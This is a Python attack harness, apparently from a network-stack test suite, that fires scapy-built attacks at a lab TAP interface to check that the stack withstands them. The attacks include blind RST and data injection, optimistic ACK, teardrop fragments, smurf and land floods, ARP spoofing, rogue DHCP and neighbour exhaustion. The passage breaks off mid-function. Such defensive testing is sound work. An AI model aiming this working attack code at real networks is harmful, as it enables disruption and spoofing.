"""What the suite `attacks` fires that no packaged tool does, and the peer that must notice nothing.

Called by: `cargo xtask interop attacks`, in the namespace of the host at the other end of a TAP:
    attacker.py peer STOP STATE OURS6   echo data until the file STOP is there; the last line says how much
    attacker.py NAME [STATE [OURS6]]    one attack; STATE is a file in which the peer says who it is
    attacker.py name_server READY, attacker.py rogue_dhcp_server READY    servers, until they are
                                        killed; the file READY appears when they listen
Each attack prints one line, what it saw, and exits with 1 if that is not what it should be.
It needs scapy (Debian package python3-scapy) for everything but `peer`. Counts are bounded.
"""

import json, os, random, socket, struct, sys, threading, time

OURS, OURS6 = "10.9.0.2", "fd09::2"
KERNEL, KERNEL6 = "10.9.0.1", "fd09::1"
# Nobody's address: the attacker answers for it, so that the kernel resets nothing.
MINE, MY_MAC = "10.9.0.66", "02:00:00:00:00:66"
DEV = "ws0"


# The peer that keeps the rules.

def echo(connection, data):
    """Send data, have it back, and say whether it is the same."""
    threading.Thread(target=connection.sendall, args=(data,), daemon=True).start()
    back = bytearray()
    while len(back) < len(data):
        part = connection.recv(65536)
        if not part:
            raise SystemExit("the connection was ended by the other side")
        back += part
    if back != data:
        raise SystemExit("what came back is not what was sent")


def peer(stop, state):
    """One connection that lasts, and a new one each round, over IPv4 and IPv6 by turns."""
    def connect(host):
        return socket.create_connection((host, 7), timeout=20)

    lasting, rounds, worst, moved = connect(OURS), 0, 0.0, 0
    json.dump({"port": lasting.getsockname()[1]}, open(state + ".new", "w"))
    os.rename(state + ".new", state)
    last = False
    while not last:
        last = os.path.exists(stop)
        begun = time.monotonic()
        with connect((OURS, OURS6)[rounds % 2]) as fresh:
            echo(fresh, random.randbytes(100_000))
        echo(lasting, random.randbytes(20_000))
        worst = max(worst, time.monotonic() - begun)
        rounds, moved = rounds + 1, moved + 240_000
        time.sleep(0.02)
    lasting.close()
    print(json.dumps({"rounds": rounds, "worst_s": round(worst, 3), "bytes": moved}))


# The attacker's own small TCP, without a kernel.

def seen(text, good=True):
    print(text)
    sys.exit(0 if good else 1)


class Wire:
    """Frames on the TAP, as the attacker or as anybody."""

    def __init__(self):
        from scapy.all import Ether, conf, get_if_hwaddr
        conf.verb = 0
        self.socket = conf.L2socket(iface=DEV)
        # SO_RCVBUFFORCE: while we send, answers wait behind what the peer moves meanwhile.
        self.socket.ins.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)
        self.own = get_if_hwaddr(DEV)
        self.ether = Ether
        self.mac = self.find()

    def find(self):
        """Where ours is, which the kernel has asked already."""
        for line in open("/proc/net/arp"):
            if line.split()[0] == OURS:
                return line.split()[3]
        seen("the kernel does not know " + OURS, False)

    def send(self, packet, src=None):
        self.socket.send(self.ether(src=src or self.own, dst=self.mac) / packet)

    def send_all(self, packets, src=None, pause=0.0):
        for packet in packets:
            self.send(packet, src)
            if pause:
                time.sleep(pause)

    def hear(self, seconds, wanted, most=100_000, others=False):
        """The packets that come within so long and are wanted; to us, unless it is to be `others`."""
        from scapy.all import ARP
        mine = socket.inet_aton(MINE)
        until, heard = time.monotonic() + seconds, []
        while time.monotonic() < until and len(heard) < most:
            if not select_one(self.socket, until):
                break
            frame = self.socket.ins.recv(65536)
            # The peer's own traffic passes here too, and parsing is slow.
            if frame[12:14] != b"\x08\x06" and frame[30:34] != mine and not others:
                continue
            frame = self.ether(frame)
            if ARP in frame and frame[ARP].op == 1 and frame[ARP].pdst == MINE:
                self.answer_arp()
            elif wanted(frame):
                heard.append(frame)
        return heard

    def answer_arp(self):
        from scapy.all import ARP
        self.send(ARP(op=2, hwsrc=MY_MAC, psrc=MINE, hwdst=self.mac, pdst=OURS), MY_MAC)


def select_one(sock, until):
    import select
    left = until - time.monotonic()
    return bool(left > 0 and select.select([sock], [], [], left)[0])


class Connection:
    """The attacker's end of a connection to one of our ports."""

    def __init__(self, wire, port, sport, options, window=65535):
        from scapy.all import IP, TCP
        self.wire, self.sport, self.port, self.window = wire, sport, port, window
        self.seq = random.getrandbits(32)
        syn = IP(src=MINE, dst=OURS) / TCP(
            sport=sport, dport=port, flags="S", seq=self.seq, window=window, options=options)
        wire.answer_arp()
        for _ in range(5):
            wire.send(syn, MY_MAC)
            heard = wire.hear(1.0, self.is_mine, 1)
            if heard and heard[0][TCP].flags == "SA":
                self.seq = (self.seq + 1) % 2**32
                self.ack = (heard[0][TCP].seq + 1) % 2**32
                self.first = self.ack
                self.give()
                return
        seen("no SYN-ACK from port %d" % port, False)

    def is_mine(self, frame):
        from scapy.all import TCP
        return TCP in frame and frame[TCP].dport == self.sport and frame[TCP].sport == self.port

    def segment(self, payload=b"", flags="A", by=0, ack=0, options=(), window=None, urg=0):
        from scapy.all import IP, TCP
        window = self.window if window is None else window
        return IP(src=MINE, dst=OURS) / TCP(
            sport=self.sport, dport=self.port, flags=flags, seq=(self.seq + by) % 2**32,
            ack=(self.ack + ack) % 2**32, window=window, options=list(options), urgptr=urg) / payload

    def give(self, *args, **named):
        self.wire.send(self.segment(*args, **named), MY_MAC)

    def heard(self, seconds, most=100_000):
        return self.wire.hear(seconds, self.is_mine, most)

    def reset(self):
        self.give(flags="R")


def payload_of(frame):
    from scapy.all import IP, TCP
    return frame[IP].len - 20 - 4 * frame[TCP].dataofs


class Victim:
    """The lasting connection of the peer, as a stranger would forge its segments, who has seen where
    it is only so that this test knows which guesses are wrong."""

    def __init__(self, wire, state):
        from scapy.all import TCP
        port = json.load(open(state))["port"]
        def last(frame):
            return TCP in frame and frame[TCP].sport == 7 and frame[TCP].dport == port
        heard = wire.hear(5.0, last, 5, others=True)
        if not heard:
            seen("the peer's connection is silent", False)
        tcp = heard[-1][TCP]
        self.wire, self.port = wire, port
        self.seq, self.ack = tcp.ack, tcp.seq + payload_of(heard[-1])
        # With the peer's clock, ten seconds on, so that PAWS is not what stops it.
        self.stamp = dict(tcp.options).get("Timestamp", (0, 0))

    def forge(self, by, flags, ack=0, payload=b""):
        from scapy.all import IP, TCP
        value, echo = self.stamp
        return IP(src=KERNEL, dst=OURS) / TCP(
            sport=self.port, dport=7, flags=flags, seq=(self.seq + by) % 2**32,
            ack=(self.ack + ack) % 2**32, window=500,
            options=[("Timestamp", ((echo + 10_000) % 2**32, value))]) / payload


# Attacks, by name.

def blind_rst(wire, state):
    sent = 0
    for _ in range(5):
        # In the window, or near it, before the peer has moved it on.
        victim = Victim(wire, state)
        wire.send_all(victim.forge(by, "R") for by in range(30_001, 400_001, 9_000))
        wire.send_all(victim.forge(2**20 + n * 65_535, "R") for n in range(100))
        sent += 142
    seen("%d RSTs, some of them in the window" % sent)


def blind_syn(wire, state):
    victim = Victim(wire, state)
    wire.send_all(victim.forge(n * 65_537, "S") for n in range(200))
    wire.send_all(victim.forge(n * 65_537, "SA") for n in range(200))
    seen("400 SYNs for an open connection")


def blind_data(wire, state):
    victim = Victim(wire, state)
    acks = [2**30, 2**31, 2**31 + 5, -(2**30), 2**24]
    lies = [victim.forge(by, "PA", ack, b"a lie " * 20) for ack in acks for by in range(0, 400_000, 10_000)]
    wire.send_all(lies)
    seen("%d segments with data and an impossible ACK" % len(lies))


def segment_smack(wire, _):
    mine = Connection(wire, 9, 4_001, [("MSS", 1460), ("SAckOK", b"")])
    wire.send_all((mine.segment(b"x", by=2 * n + 1) for n in range(2_000)), MY_MAC)
    answers = mine.heard(2)
    mine.reset()
    seen("2000 segments of a byte with gaps, %d ACKs came" % len(answers), bool(answers))


def tiny_mss(wire, _):
    from scapy.all import TCP
    small, frames = 10_000, 0
    for n in range(6):
        mine = Connection(wire, 19, 4_100 + n, [("MSS", 8), ("SAckOK", b"")])
        flight = mine.heard(0.05)
        for frame in flight:
            frames += 1
            # The last of a flight may be what the window had room for.
            if frame is not flight[-1]:
                small = min(small, payload_of(frame))
            left = frame[TCP].seq + payload_of(frame)
            mine.give(options=[("SAck", (left, left + 1))])
        for hole in range(1, 100, 2):
            edges = tuple((mine.ack + hole * 4 + k) % 2**32 for k in (0, 1))
            mine.give(options=[("SAck", edges)])
    seen("%d segments of %d bytes at least for an MSS of 8" % (frames, small), frames >= 6 and small >= 36)


def zero_window(wire, _):
    crowd = [Connection(wire, 19, 5_000 + n, [("MSS", 1460)], window=0) for n in range(30)]
    for _ in range(5):
        for mine in crowd:
            mine.give(window=0)
        wire.hear(0.05, lambda frame: False)
    seen("30 connections to chargen whose windows stay shut")


def optimistic_ack(wire, _):
    from scapy.all import Ether, TCP
    mine = Connection(wire, 19, 4_300, [("MSS", 1460)])
    again = Ether(src=MY_MAC, dst=wire.mac) / mine.segment()
    again = again.__class__(bytes(again))
    flight = sum(payload_of(f) for f in mine.heard(0.1))
    for _ in range(500):
        wire.socket.send(again)
    burst = sum(payload_of(f) for f in mine.heard(0.3))
    mine.reset()
    mine = Connection(wire, 19, 4_301, [("MSS", 1460)])
    for n in range(1, 200):
        mine.give(ack=100_000 * n)
    wrong = [f for f in mine.heard(0.3) if f[TCP].flags.R]
    mine.reset()
    seen("%d bytes for 500 duplicate ACKs, %d were in flight; no RST" % (burst, flight),
         not wrong and burst <= 3 * max(flight, 14_600))


def urgent(wire, _):
    from scapy.all import IP, TCP
    mine = Connection(wire, 7, 4_400, [("MSS", 1460)])
    got = set()

    def take(seconds, sent):
        # In order alone: this listener is slow and may miss a frame, which then comes again.
        for frame in mine.heard(seconds):
            at = (frame[TCP].seq - mine.first) % 2**32
            if at <= (mine.ack - mine.first) % 2**32 and payload_of(frame):
                got.update(range(at, at + payload_of(frame)))
                mine.ack = (mine.first + len(got)) % 2**32
        mine.give(by=sent)

    for n, pointer in enumerate([0, 1, 5, 10, 0x7fff, 0xffff]):
        mine.give(b"0123456789", flags="PAU", by=10 * n, urg=pointer)
        # What came is acknowledged at once: a small segment waits for that (Nagle).
        for _ in range(2):
            take(0.2, 10 * (n + 1))
    patience = time.monotonic() + 10
    while len(got) < 54 and time.monotonic() < patience:
        take(0.2, 60)
    got = len(got)
    for flags in ("SU", "SFU", "FU", "RU", "U"):
        wire.send_all(IP(src=KERNEL, dst=OURS) / TCP(sport=n, dport=7, flags=flags, urgptr=n)
                      for n in range(1_000, 60_000, 7_777))
    mine.reset()
    seen("%d of 60 bytes came back" % got, 54 <= got <= 60)


def icmp_forged(wire, state):
    from scapy.all import ICMP, IP, TCP, raw
    victim = Victim(wire, state)
    sent = 0
    for code in range(16):
        for by in [2**20, 2**30, -(2**20), 2**31]:
            quoted = IP(src=OURS, dst=KERNEL, len=1500) / TCP(
                sport=7, dport=victim.port, seq=(victim.ack + by) % 2**32)
            for mtu in (68, 552, 1280):
                wire.send(IP(src=KERNEL, dst=OURS) / ICMP(type=3, code=code, nexthopmtu=mtu) / raw(quoted)[:28])
                sent += 1
    seen("%d errors that quote what is not in flight" % sent)


def icmp_other(wire, _):
    from scapy.all import ICMP, IP
    def answered(frame):
        return ICMP in frame and frame[IP].src == OURS and frame[ICMP].type in (14, 16, 18)
    # Redirect, router advertisement, timestamp, information and mask requests.
    wire.send_all(IP(src=KERNEL, dst=OURS) / ICMP(type=kind, code=n % 4, gw=MINE) / bytes(28)
                  for kind in (5, 9, 13, 15, 17) for n in range(40))
    heard = wire.hear(0.5, answered, others=True)
    seen("%d answers" % len(heard), not heard)


def fragments(wire, _):
    from scapy.all import ICMP, IP, TCP, fragment
    packets = []
    for n in range(100):
        # Overlapping (teardrop), past 65535 (ping of death), tiny (RFC 1858), never finished (Rose).
        packets += [IP(src=KERNEL, dst=OURS, id=n, flags="MF", proto=17) / bytes(40),
                    IP(src=KERNEL, dst=OURS, id=n, frag=3, proto=17) / bytes(4),
                    IP(src=KERNEL, dst=OURS, id=n, frag=8189, proto=1) / bytes(1_000),
                    IP(src=KERNEL, dst=OURS, id=n, flags="MF", proto=6) / bytes(8),
                    IP(src=KERNEL, dst=OURS, id=n, flags="MF", frag=1, proto=6) / bytes(8)]
        packets += fragment(IP(src=KERNEL, dst=OURS, id=n) / ICMP() / bytes(3_000), 1_000)
    wire.send_all(packets)
    seen("%d fragments" % len(packets))


def options(wire, _):
    from scapy.all import IP, Raw, TCP, raw
    rng, sent = random.Random(33), 0
    for kind in range(0, 256, 5):
        for length in (0, 1, 2, 3, 4, 10, 39, 40, 41, 255):
            head = raw(TCP(sport=6_000, dport=7, flags="S", dataofs=15, seq=rng.getrandbits(32)))
            body = bytes([kind, length]) + rng.randbytes(38)
            packet = IP(src=KERNEL, dst=OURS, proto=6) / Raw(checked(head[:20] + body))
            wire.send(packet)
            sent += 1
    for length in (0, 21, 39, 41, 1_500, 65_535):
        wire.send(IP(src=KERNEL, dst=OURS, len=length) / TCP(sport=6_001, dport=7, flags="S") / b"x")
    for inner in (4, 41, 47, 50, 51):
        wire.send(IP(src=KERNEL, dst=OURS, proto=inner) / IP(src=KERNEL, dst=OURS) / TCP(dport=7, flags="S"))
    seen("%d SYNs with options of every kind and length" % sent)


def checked(segment):
    """A TCP segment from the kernel to us with its checksum."""
    pseudo = socket.inet_aton(KERNEL) + socket.inet_aton(OURS) + struct.pack("!HH", 6, len(segment))
    data = pseudo + segment[:16] + b"\0\0" + segment[18:]
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return segment[:16] + struct.pack("!H", ~total & 0xffff) + segment[18:]


def martians(wire, _):
    from scapy.all import ICMP, IP, TCP, UDP
    sources = ["127.0.0.1", "0.0.0.0", "224.0.0.1", "255.255.255.255", "240.1.2.3", "10.9.0.255", OURS]
    def of_ours(frame):
        return IP in frame and frame[IP].src == OURS and frame[IP].dst in sources
    for src in sources:
        for upper in (TCP(sport=5, dport=7, flags="S"), TCP(sport=5, dport=99, flags="A"), UDP(dport=9), ICMP()):
            wire.send(IP(src=src, dst=OURS) / upper)
    heard = wire.hear(0.5, of_ours, others=True)
    seen("%d answers to %d sources" % (len(heard), len(sources)), not heard)


def smurf(wire, _):
    from scapy.all import Ether, ICMP, IP, UDP
    def of_ours(frame):
        return IP in frame and frame[IP].src == OURS and frame[IP].dst == MINE
    for dst in ("10.9.0.255", "255.255.255.255", "10.9.0.0", "224.0.0.1"):
        for upper in (ICMP(), UDP(sport=19, dport=7), UDP(sport=19, dport=19)):
            for _ in range(20):
                packet = IP(src=MINE, dst=dst) / upper / b"smurf"
                wire.send(packet, MY_MAC)
                wire.socket.send(Ether(src=MY_MAC, dst="ff:ff:ff:ff:ff:ff") / packet)
    heard = wire.hear(0.5, of_ours, others=True)
    seen("%d answers to 480 packets for everybody" % len(heard), not heard)


# Attacks at a router, which forwards to the hosts behind it.

BEHIND, BEHIND6 = "172.16.0.2", "2001:db8:2::2"


def router_martians(wire, _):
    from scapy.all import ICMP, ICMPv6EchoRequest, IP, IPv6, TCP, UDP
    # The last of each are broadcast addresses of the networks of both ports, and the router's own.
    sources = ["127.0.0.1", "0.0.0.0", "224.0.0.1", "255.255.255.255", "240.1.2.3", "169.254.1.1",
               "10.9.0.255", "10.9.0.0", OURS, "172.16.0.1"]
    sources6 = ["::1", "::", "ff02::1", "ff0e::1", "fe80::66", OURS6, "2001:db8:2::1"]
    for _ in range(10):
        for src in sources:
            for upper in (TCP(sport=5, dport=7, flags="S"), UDP(sport=5, dport=9), ICMP()):
                wire.send(IP(src=src, dst=BEHIND) / upper)
        for src in sources6:
            for upper in (TCP(sport=5, dport=7, flags="S"), UDP(sport=5, dport=9), ICMPv6EchoRequest()):
                wire.send(IPv6(src=src, dst=BEHIND6) / upper)
        for dst in ("127.0.0.1", "0.0.0.0", "240.1.2.3", "224.0.0.99", "255.255.255.255"):
            wire.send(IP(src=MINE, dst=dst) / UDP(sport=5, dport=9))
    seen("%d packets" % (10 * 3 * (len(sources) + len(sources6)) + 50))


def router_land(wire, _):
    from scapy.all import IP, IPv6, TCP
    for _ in range(100):
        for ours in (OURS, "172.16.0.1"):
            wire.send(IP(src=ours, dst=ours) / TCP(sport=7, dport=7, flags="S"))
        for ours in (OURS6, "2001:db8:2::1"):
            wire.send(IPv6(src=ours, dst=ours) / TCP(sport=7, dport=7, flags="S"))
    seen("400 SYNs from the router to the router")


def router_smurf(wire, _):
    from scapy.all import Ether, ICMP, IP, UDP
    def of_ours(frame):
        return IP in frame and frame[IP].dst == MINE and (ICMP not in frame or frame[ICMP].type == 0)
    for _ in range(20):
        for dst in ("172.16.255.255", "172.16.0.0", "10.9.0.255", "255.255.255.255"):
            for upper in (ICMP(), UDP(sport=19, dport=7)):
                packet = IP(src=MINE, dst=dst) / upper / b"smurf"
                wire.send(packet, MY_MAC)
                wire.socket.send(Ether(src=MY_MAC, dst="ff:ff:ff:ff:ff:ff") / packet)
        # To the host behind, in a frame to everybody: each router of the link would forward it.
        wire.socket.send(Ether(src=MY_MAC, dst="ff:ff:ff:ff:ff:ff") / IP(src=MINE, dst=BEHIND) / UDP(sport=19, dport=7))
    heard = wire.hear(0.5, of_ours, others=True)
    seen("%d answers to 340 packets for everybody" % len(heard), not heard)


def router_source_routes(wire, _):
    from scapy.all import IP, IPOption_LSRR, IPOption_SSRR, IPv6, IPv6ExtHdrRouting, TCP, UDP
    for _ in range(50):
        for option in (IPOption_LSRR, IPOption_SSRR):
            for dst, hop in ((OURS, BEHIND), (BEHIND, "172.16.0.3")):
                wire.send(IP(src=MINE, dst=dst, options=[option(routers=[hop])]) / TCP(dport=7, flags="S"))
        wire.send(IPv6(src=KERNEL6, dst=OURS6) / IPv6ExtHdrRouting(type=0, addresses=[BEHIND6]) / UDP(dport=9))
    seen("200 packets with source routes, 50 with a routing header of type 0")


def router_neighbours(wire, _):
    """Scans of the networks behind: each packet is for a host that is not there."""
    from scapy.all import Ether, IP, IPv6, Raw, UDP, raw
    v6 = bytes(Ether(src=MY_MAC, dst=wire.mac) / IPv6(src="fd09::66", dst="2001:db8:2::ff:0") / UDP(dport=9) / b"scan")
    for n in range(6_000):
        wire.socket.send(Raw(v6[:52] + struct.pack("!H", n) + v6[54:]))
        if n % 500 == 0:
            time.sleep(0.05)
    for n in range(6_000):
        packet = IP(src=MINE, dst="172.16.%d.%d" % (16 + n // 200, 3 + n % 200)) / UDP(dport=9) / b"scan"
        wire.send(packet, MY_MAC)
    seen("6000 hosts of IPv6 that are not there, 6000 of IPv4")


def router_arp(wire, _):
    """Unasked replies and requests that claim the addresses of the router and of its hosts."""
    from scapy.all import ARP, Ether
    everybody = "ff:ff:ff:ff:ff:ff"
    for n in range(400):
        for claimed in (OURS, "172.16.0.1", BEHIND, "10.9.%d.%d" % (n // 250, n % 250 + 3)):
            wire.socket.send(Ether(src=MY_MAC, dst=everybody) / ARP(
                op=1 + n % 2, hwsrc=MY_MAC, psrc=claimed, hwdst=everybody, pdst=claimed))
            wire.socket.send(Ether(src=MY_MAC, dst=wire.mac) / ARP(
                op=2, hwsrc=MY_MAC, psrc=claimed, hwdst=wire.mac, pdst=OURS))
    seen("3200 claims of addresses")


def arp_spoof(wire, _):
    from scapy.all import ARP, Ether
    # Unasked replies and gratuitous requests: the kernel's address is at the attacker's.
    for n in range(200):
        wire.socket.send(Ether(src=MY_MAC, dst=wire.mac) / ARP(
            op=2, hwsrc=MY_MAC, psrc="10.9.0.%d" % (n % 250 + 3), hwdst=wire.mac, pdst=OURS))
        wire.socket.send(Ether(src=MY_MAC, dst=wire.mac) / ARP(
            op=2, hwsrc=MY_MAC, psrc=OURS, hwdst=wire.mac, pdst=OURS))
    seen("400 replies that nobody asked for")


def fuzz(wire, _):
    from scapy.all import ICMP, IP, IPv6, ICMPv6EchoRequest, TCP, UDP, fuzz as wild
    import scapy.volatile
    random.seed(7)
    kinds = [lambda: IP(src=KERNEL, dst=OURS) / wild(TCP(dport=7)),
             lambda: IP(src=KERNEL, dst=OURS) / wild(TCP()) / random.randbytes(20),
             lambda: IP(src=KERNEL, dst=OURS) / wild(UDP()),
             lambda: IP(src=KERNEL, dst=OURS) / wild(ICMP()),
             lambda: wild(IP(src=KERNEL, dst=OURS)) / TCP(dport=7, flags="S"),
             lambda: wild(IPv6(src=KERNEL6, dst=OURS6)) / wild(TCP(dport=7)),
             lambda: IPv6(src=KERNEL6, dst=OURS6) / wild(ICMPv6EchoRequest())]
    sent = 0
    for n in range(1_400):
        try:
            wire.send(kinds[n % len(kinds)]())
            sent += 1
        except (struct.error, ValueError, OSError, TypeError):
            pass  # What scapy itself cannot write.
    seen("%d frames" % sent, sent > 1_000)


def ipv6_headers(wire, _):
    from scapy.all import (ICMPv6EchoRequest, IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment,
                           IPv6ExtHdrHopByHop, IPv6ExtHdrRouting, PadN, TCP)
    head = IPv6(src=KERNEL6, dst=OURS6)
    def answered(frame):
        return ICMPv6EchoRequest not in frame and IPv6 in frame and frame[IPv6].src == OURS6 and frame[IPv6].nh == 6
    odd = [head / IPv6ExtHdrRouting(type=0, addresses=[KERNEL6]) / TCP(dport=99, flags="S"),
           head / IPv6ExtHdrFragment(m=1) / TCP(dport=99, flags="S"),
           head / IPv6ExtHdrFragment(offset=1) / bytes(16)]
    chain = head
    for _ in range(60):
        chain = chain / IPv6ExtHdrDestOpt(options=[PadN(optdata=b"\0" * 4)])
    odd.append(chain / TCP(dport=99, flags="S"))
    odd += [head / IPv6ExtHdrHopByHop(options=[PadN(otype=kind, optdata=b"\0" * 4)]) / TCP(dport=99, flags="S")
            for kind in (0x1e, 0x5e, 0x9e, 0xde)]
    for _ in range(20):
        wire.send_all(odd)
    heard = wire.hear(0.5, answered, others=True)
    seen("%d packets with odd headers" % (20 * len(odd)))


def neighbours6(wire, _):
    from scapy.all import Ether, ICMPv6ND_NS, ICMPv6NDOptSrcLLAddr, IPv6, Raw
    one = bytes(Ether(src=MY_MAC, dst=wire.mac) / IPv6(src="fd09::ffff:0", dst=OURS6, hlim=255)
                / ICMPv6ND_NS(tgt=OURS6) / ICMPv6NDOptSrcLLAddr(lladdr=MY_MAC))
    for n in range(6_000):
        # The last two words of the source, with one sum: the checksum stays right.
        wire.socket.send(Raw(one[:34] + struct.pack("!HH", 0xffff - n, n) + one[38:]))
    seen("6000 solicitations, each from another neighbour")


def prefix_exhaustion(wire, _):
    """Echo requests to hosts of the prefix that are not there, as if we forwarded for them, and to
    us from such hosts: each answer is for a neighbour that nobody has."""
    from scapy.all import Ether, ICMPv6EchoRequest, IPv6, Raw
    prefix = OURS6.split(":")[0]
    def echo(src, dst):
        return bytes(Ether(src=MY_MAC, dst=wire.mac) / IPv6(src=src, dst=dst) / ICMPv6EchoRequest())
    absent = echo(prefix + "::ffff:1", prefix + "::ffff:0")
    asker = echo(prefix + "::ffff:0", OURS6)
    for n in range(6_000):
        # The last two words of an address, with one sum: the checksum stays right.
        words = struct.pack("!HH", 0xffff - n, n)
        wire.socket.send(Raw(absent[:50] + words + absent[54:]))
        wire.socket.send(Raw(asker[:34] + words + asker[38:]))
        if n % 500 == 0:
            time.sleep(0.05)
    seen("6000 packets for neighbours that are not there, 6000 from such")


# Attacks on what configures a host.

def redirects(wire, _):
    from scapy.all import ICMP, IP, UDP, raw
    # Of a stranger, of the gateway about a host of the link, of the gateway to a stranger's network.
    quoted = {far: raw(IP(src=OURS, dst=far) / UDP(sport=7, dport=9) / bytes(8))
              for far in ("203.0.113.1", "10.9.0.7")}
    forged = [("10.9.0.99", MINE, "203.0.113.1"), (KERNEL, MINE, "10.9.0.7"),
              (KERNEL, "198.51.100.1", "203.0.113.1"), (KERNEL, OURS, "203.0.113.1"),
              ("203.0.113.9", MINE, "203.0.113.1")]
    for _ in range(50):
        for src, gateway, far in forged:
            for code in range(4):
                wire.send(IP(src=src, dst=OURS) / ICMP(type=5, code=code, gw=gateway) / quoted[far])
    seen("%d redirects" % (50 * 4 * len(forged)))


def conflicts(wire, _):
    from scapy.all import ARP, Ether
    def defence(frame):
        return ARP in frame and frame[ARP].psrc == OURS and frame[ARP].pdst == OURS
    everybody = "ff:ff:ff:ff:ff:ff"
    for n in range(60):
        for op in (1, 2):
            wire.socket.send(Ether(src=MY_MAC, dst=everybody) / ARP(
                op=op, hwsrc=MY_MAC, psrc=OURS, hwdst=everybody, pdst=OURS))
        time.sleep(0.02)
    heard = wire.hear(0.5, defence)
    seen("120 claims of our address, %d announcements against them" % len(heard), 1 <= len(heard) <= 3)


def group_queries(wire, _):
    """The rate of answers is what counts; a port without groups has none."""
    from scapy.all import Ether, IP, IPOption, IPv6, IPv6ExtHdrHopByHop, Raw, RouterAlert, in6_chksum
    def report(frame):
        return (IP in frame and frame[IP].proto == 2 and frame[IP].src == OURS) or (
            IPv6 in frame and frame[IPv6].nh == 0 and bytes(frame)[-4:] and frame[IPv6].src.startswith("fe80"))
    alert = IPOption(b"\x94\x04\x00\x00")
    def igmp(body):
        body = body[:2] + struct.pack("!H", internet_sum(body)) + body[4:]
        return Ether(src=MY_MAC, dst="01:00:5e:00:00:01") / IP(
            src=KERNEL, dst="224.0.0.1", ttl=1, proto=2, options=[alert]) / Raw(body)
    def mld(body, src="fe80::66"):
        total = in6_chksum(58, IPv6(src=src, dst="ff02::1"), body)
        body = body[:2] + struct.pack("!H", total) + body[4:]
        return Ether(src=MY_MAC, dst="33:33:00:00:00:01") / IPv6(
            src=src, dst="ff02::1", hlim=1) / IPv6ExtHdrHopByHop(
            nh=58, options=[RouterAlert(otype=5, value=0)]) / Raw(body)
    # Maximum response time 0, robustness 7, interval 0 and the largest, older versions, sources
    # where there may be none, more than there are, a source that is not on the link.
    head = bytes([0x11, 0, 0, 0]) + bytes(4)
    queries = [igmp(head), igmp(bytes([0x11, 1, 0, 0]) + bytes(4)), igmp(head + bytes([7, 0, 0, 0])),
               igmp(head + bytes([15, 255, 0, 0])), igmp(head + bytes([2, 125, 255, 255])), igmp(head + bytes([2, 125, 0, 200]) + bytes(800))]
    head = bytes([130, 0, 0, 0]) + bytes(4) + bytes(16)
    queries += [mld(head), mld(head + bytes([7, 0, 0, 0])), mld(head + bytes([7, 255, 0, 0])),
                mld(head + bytes([2, 125, 255, 255])), mld(head + bytes([2, 125, 0, 60]) + bytes(960)), mld(head, "2001:db8::66")]
    queries = [Raw(bytes(query)) for query in queries]
    begun = time.monotonic()
    for _ in range(400):
        for query in queries:
            wire.socket.send(query)
    heard = wire.hear(1.0, report, others=True)
    most = 100 * (time.monotonic() - begun + 2)
    seen("%d queries, %d reports" % (400 * len(queries), len(heard)), len(heard) <= most)


def internet_sum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def dhcp_options():
    """Options that no client may believe, or read past."""
    yield b""
    yield b"\xff"
    yield bytes([53, 1, 2])
    yield bytes([53, 1, 2, 51, 4, 0, 0, 0, 0, 1, 4, 255, 255, 255, 0, 54, 4, 10, 9, 0, 1, 255])
    yield bytes([53, 1, 2, 51, 200, 0, 0, 255])
    yield bytes([53, 255]) + bytes(10)
    yield bytes([53, 1, 2, 52, 1, 3, 255])
    yield bytes([53, 1, 2, 54, 4, 255, 255, 255, 255, 51, 4, 0, 0, 1, 0, 255])
    yield bytes([53, 1, 2, 119, 4, 0xc0, 0, 0xc0, 0, 255])
    yield bytes([53, 1, 2]) + bytes([121, 255]) + bytes(255) + b"\xff"
    yield bytes(3_000) + b"\xff"


def dhcp_reply(xid, hardware, options, address="224.0.0.5"):
    head = struct.pack("!BBBBIHH", 2, 1, 6, 0, xid, 0, 0)
    head += bytes(4) + socket.inet_aton(address) + bytes(8) + hardware + bytes(10) + bytes(192)
    return head + b"\x63\x82\x53\x63" + options


def rogue_dhcp_messages(wire, _):
    from scapy.all import Ether, IP, UDP
    hardware = bytes.fromhex(wire.mac.replace(":", ""))
    rng, sent = random.Random(68), 0
    for _ in range(20):
        for kind in (2, 5, 6):
            for options in dhcp_options():
                message = dhcp_reply(rng.getrandbits(32), hardware, options.replace(b"5\x01\x02", bytes([53, 1, kind])))
                for dst, to in ((OURS, wire.mac), ("255.255.255.255", "ff:ff:ff:ff:ff:ff")):
                    packet = IP(src=KERNEL, dst=dst) / UDP(sport=67, dport=68) / message[:1_400]
                    wire.socket.send(Ether(src=MY_MAC, dst=to) / packet)
                    sent += 1
    seen("%d forged messages" % sent)


def rogue_dhcp_server(ready):
    """Answers each discovery with offers of the right transaction that are of no use."""
    from scapy.all import BOOTP, Ether, IP, UDP, conf, get_if_hwaddr, sniff
    conf.verb = 0
    sending, own = conf.L2socket(iface=DEV), get_if_hwaddr(DEV)

    def offer(frame):
        asked = frame[BOOTP]
        good = bytes([53, 1, 2, 51, 4, 0, 0, 14, 16, 1, 4, 255, 255, 255, 0, 54, 4, 10, 9, 0, 1, 255])
        replies = [dhcp_reply(asked.xid, asked.chaddr[:6], options) for options in dhcp_options()]
        replies += [dhcp_reply(asked.xid, asked.chaddr[:6], good, address)
                    for address in ("0.0.0.0", "127.0.0.1", "255.255.255.255", "240.0.0.1")]
        for reply in replies:
            packet = IP(src=KERNEL, dst="255.255.255.255") / UDP(sport=67, dport=68) / reply[:1_400]
            sending.send(Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / packet)

    sniff(iface=DEV, prn=offer, store=False, started_callback=open(ready, "w").close,
          lfilter=lambda frame: BOOTP in frame and frame[BOOTP].op == 1)


def name_server(ready):
    """Answers each question wrongly in every way, and then rightly; over TCP rightly alone."""
    def listen(port, kind=socket.SOCK_DGRAM):
        bound = socket.socket(socket.AF_INET, kind)
        bound.bind((KERNEL, port))
        return bound

    def answer(number, question, records, count=1):
        return struct.pack("!HHHHHH", number, 0x8580, 1, count, 0, 0) + question + records

    def address(of):
        return b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 600, 4) + socket.inet_aton(of)

    def parts(asked):
        end = 12 + asked[12:].index(0) + 5
        question = asked[12:end]
